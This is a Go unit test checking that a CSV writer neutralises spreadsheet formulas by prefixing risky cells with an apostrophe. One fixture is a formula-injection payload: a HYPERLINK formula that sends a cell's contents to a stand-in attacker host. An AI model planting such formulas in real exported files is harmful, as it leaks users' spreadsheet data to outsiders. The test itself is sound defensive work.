package spreadsheet

import (
	"encoding/csv"
	"strings"
	"testing"
)

func TestWriterNeutralisesFormulas(t *testing.T) {
	row := []string{
		`=HYPERLINK("http://evil.example/?d="&A1,"Ver")`,
		"+52 33 1234 5678",
		"-1+1",
		"@SUM(A1:A2)",
		"\t=1+1",
		"\r=1+1",
		"Bacheo en la colonia Centro = 120 reportes",
		"",
		"'ya citado",
		"https://social.example/@obras/1",
	}
	want := []string{
		`'=HYPERLINK("http://evil.example/?d="&A1,"Ver")`,
		"'+52 33 1234 5678",
		"'-1+1",
		"'@SUM(A1:A2)",
		"'\t=1+1",
		"'\r=1+1",
		"Bacheo en la colonia Centro = 120 reportes",
		"",
		"'ya citado",
		"https://social.example/@obras/1",
	}
	var b strings.Builder
	w := NewWriter(&b)
	if err := w.Write(row); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(strings.NewReader(b.String())).Read()
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != len(want) {
		t.Fatalf("%d cells, want %d", len(got), len(want))
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("cell %d: got %q, want %q", i, got[i], want[i])
		}
	}
	if row[0][0] != '=' {
		t.Error("Write changed the caller's row")
	}
}
